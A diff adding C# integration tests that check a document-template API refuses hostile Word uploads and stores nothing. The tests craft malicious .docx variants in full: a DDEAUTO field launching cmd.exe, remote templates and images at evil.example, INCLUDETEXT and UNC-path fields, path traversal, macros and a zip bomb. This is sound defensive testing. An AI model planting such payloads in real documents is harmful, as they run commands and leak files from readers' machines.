@@ -1,3 +1,4 @@
+using System.IO.Compression;
 using System.Net;
 using System.Net.Http.Headers;
 using System.Net.Http.Json;
@@ -154,4 +155,166 @@ public sealed class TemplatesApiTests(WorkflowsApiFactory api) : IClassFixture<W
         Assert.Equal(HttpStatusCode.UnprocessableEntity, missingFile.StatusCode);
         Assert.True((await ErrorsAsync(missingFile)).TryGetProperty("file", out _));
     }
+
+    private const string R = "http://schemas.openxmlformats.org/officeDocument/2006/relationships";
+
+    /// <summary>A harmless order changed as an attacker would: the attack, the part the refusal must name, a word of its reason.</summary>
+    public static TheoryData<string, string, string> HostilePackages => new()
+    {
+        { "macro project", "word/vbaProject.bin", "macros" },
+        { "docm content type", "[Content_Types].xml", "macro-enabled" },
+        { "entry outside the package", "../../evil.xml", "outside the package" },
+        { "absolute entry name", "/word/evil.xml", "outside the package" },
+        { "remote attached template", "word/_rels/settings.xml.rels", "attachedTemplate" },
+        { "linked image", "word/_rels/document.xml.rels", "image" },
+        { "hyperlink to a file", "word/_rels/document.xml.rels", "file:///C:/secret/plan.docx" },
+        { "hyperlink to a UNC path", "word/_rels/document.xml.rels", @"\\fileserver\share\x.docx" },
+        { "altChunk", "word/document.xml", "altChunk" },
+        { "INCLUDEPICTURE field", "word/document.xml", "INCLUDEPICTURE" },
+        { "INCLUDETEXT field split over runs", "word/document.xml", "INCLUDETEXT" },
+        { "LINK field", "word/document.xml", "LINK" },
+        { "DDEAUTO field", "word/document.xml", "DDEAUTO" },
+        { "zip bomb", "word/media/zeros.bin", "inflates" },
+    };
+
+    [Theory]
+    [MemberData(nameof(HostilePackages))]
+    public async Task A_hostile_package_is_refused_naming_the_part_and_nothing_is_stored(string attack, string part, string reason)
+    {
+        using var legal = await api.ClientForAsync("legal.r1");
+        var before = await legal.GetFromJsonAsync<JsonElement[]>(Templates);
+        var docx = Hostile(Order("Перевести {{student.fullName}}."), attack);
+
+        using var response = await legal.PostAsync(Templates, Form("order-transfer", "ru", docx));
+
+        Assert.Equal(HttpStatusCode.UnprocessableEntity, response.StatusCode);
+        var problems = (await ErrorsAsync(response)).GetProperty("file").EnumerateArray().Select(e => e.GetString()!).ToList();
+        Assert.Contains(problems, p => p.StartsWith(part + ":", StringComparison.Ordinal) && p.Contains(reason, StringComparison.Ordinal));
+        var after = await legal.GetFromJsonAsync<JsonElement[]>(Templates);
+        Assert.Equal(before!.Select(t => t.GetProperty("sha256").GetString()), after!.Select(t => t.GetProperty("sha256").GetString()));
+    }
+
+    [Fact]
+    public async Task A_plain_order_with_a_web_hyperlink_is_still_accepted()
+    {
+        using var legal = await api.ClientForAsync("legal.r1");
+        var docx = Order("Перевести {{student.fullName}}.");
+        using (var stream = new MemoryStream())
+        {
+            stream.Write(docx);
+            using (var zip = new ZipArchive(stream, ZipArchiveMode.Update, leaveOpen: true))
+            {
+                AddRelationship(zip, $"""<Relationship Id="rX" Type="{R}/hyperlink" Target="https://adilet.zan.kz/rus/docs/V2300033688" TargetMode="External"/>""");
+            }
+
+            docx = stream.ToArray();
+        }
+
+        using var response = await legal.PostAsync(Templates, Form("order-transfer", "kk", docx));
+
+        Assert.True(response.StatusCode == HttpStatusCode.Created, await response.Content.ReadAsStringAsync());
+    }
+
+    private static byte[] Hostile(byte[] docx, string attack)
+    {
+        using var stream = new MemoryStream();
+        stream.Write(docx);
+        using (var zip = new ZipArchive(stream, ZipArchiveMode.Update, leaveOpen: true))
+        {
+            switch (attack)
+            {
+                case "macro project":
+                    Write(zip, "word/vbaProject.bin", [0xD0, 0xCF, 0x11, 0xE0]);
+                    break;
+                case "docm content type":
+                    Edit(zip, "[Content_Types].xml", x => x.Replace("application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml",
+                        "application/vnd.ms-word.document.macroEnabled.main+xml", StringComparison.Ordinal));
+                    break;
+                case "entry outside the package":
+                    Write(zip, "../../evil.xml", "<x/>"u8.ToArray());
+                    break;
+                case "absolute entry name":
+                    Write(zip, "/word/evil.xml", "<x/>"u8.ToArray());
+                    break;
+                case "remote attached template":
+                    Write(zip, "word/_rels/settings.xml.rels", Utf8(
+                        $"""<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rT" Type="{R}/attachedTemplate" Target="http://evil.example/normal.dotm" TargetMode="External"/></Relationships>"""));
+                    break;
+                case "linked image":
+                    AddRelationship(zip, $"""<Relationship Id="rX" Type="{R}/image" Target="http://evil.example/pixel.png" TargetMode="External"/>""");
+                    break;
+                case "hyperlink to a file":
+                    AddRelationship(zip, $"""<Relationship Id="rX" Type="{R}/hyperlink" Target="file:///C:/secret/plan.docx" TargetMode="External"/>""");
+                    break;
+                case "hyperlink to a UNC path":
+                    AddRelationship(zip, $"""<Relationship Id="rX" Type="{R}/hyperlink" Target="\\fileserver\share\x.docx" TargetMode="External"/>""");
+                    break;
+                case "altChunk":
+                    AddRelationship(zip, $"""<Relationship Id="rX" Type="{R}/aFChunk" Target="chunk.html"/>""");
+                    AddToBody(zip, $"""<w:altChunk xmlns:r="{R}" r:id="rX"/>""");
+                    break;
+                case "INCLUDEPICTURE field":
+                    AddToBody(zip, """<w:p><w:fldSimple w:instr=' INCLUDEPICTURE "http://evil.example/p.png" \d '><w:r><w:t>x</w:t></w:r></w:fldSimple></w:p>""");
+                    break;
+                case "INCLUDETEXT field split over runs":
+                    AddToBody(zip, """<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText xml:space="preserve"> INCLU</w:instrText></w:r><w:r><w:instrText>DETEXT "C:\\secret.docx"</w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>""");
+                    break;
+                case "LINK field":
+                    AddToBody(zip, """<w:p><w:r><w:fldChar w:fldCharType="begin"/></w:r><w:r><w:instrText> LINK Excel.Sheet.8 "\\\\fileserver\\book.xls" "Sheet1!R1C1" \a </w:instrText></w:r><w:r><w:fldChar w:fldCharType="end"/></w:r></w:p>""");
+                    break;
+                case "DDEAUTO field":
+                    AddToBody(zip, """<w:p><w:fldSimple w:instr=' DDEAUTO c:\\windows\\system32\\cmd.exe "/k calc.exe" '/></w:p>""");
+                    break;
+                case "zip bomb":
+                    // 64 MB of zeros in about 64 KB: refused from the central directory's sizes, before anything is inflated.
+                    var entry = zip.CreateEntry("word/media/zeros.bin", CompressionLevel.SmallestSize);
+                    using (var output = entry.Open())
+                    {
+                        var zeros = new byte[1024 * 1024];
+                        for (var i = 0; i < 64; i++)
+                        {
+                            output.Write(zeros);
+                        }
+                    }
+
+                    break;
+                default:
+                    throw new ArgumentOutOfRangeException(nameof(attack), attack, "No such attack here.");
+            }
+        }
+
+        return stream.ToArray();
+    }
+
+    private static byte[] Utf8(string text) => System.Text.Encoding.UTF8.GetBytes(text);
+
+    private static void Write(ZipArchive zip, string name, byte[] content)
+    {
+        using var output = zip.CreateEntry(name).Open();
+        output.Write(content);
+    }
+
+    private static void Edit(ZipArchive zip, string name, Func<string, string> change)
+    {
+        var entry = zip.GetEntry(name)!;
+        string text;
+        using (var reader = new StreamReader(entry.Open()))
+        {
+            text = reader.ReadToEnd();
+        }
+
+        entry.Delete();
+        Write(zip, name, Utf8(change(text)));
+    }
+
+    private static void AddRelationship(ZipArchive zip, string relationship) =>
+        Edit(zip, "word/_rels/document.xml.rels", x => x.Replace("</Relationships>", relationship + "</Relationships>", StringComparison.Ordinal));
+
+    private static void AddToBody(ZipArchive zip, string xml) =>
+        Edit(zip, "word/document.xml", x =>
+        {
+            var body = x.IndexOf("<w:body>", StringComparison.Ordinal);
+            Assert.True(body >= 0, "the order's main part has no <w:body>");
+            return x.Insert(body + "<w:body>".Length, xml);
+        });
 }
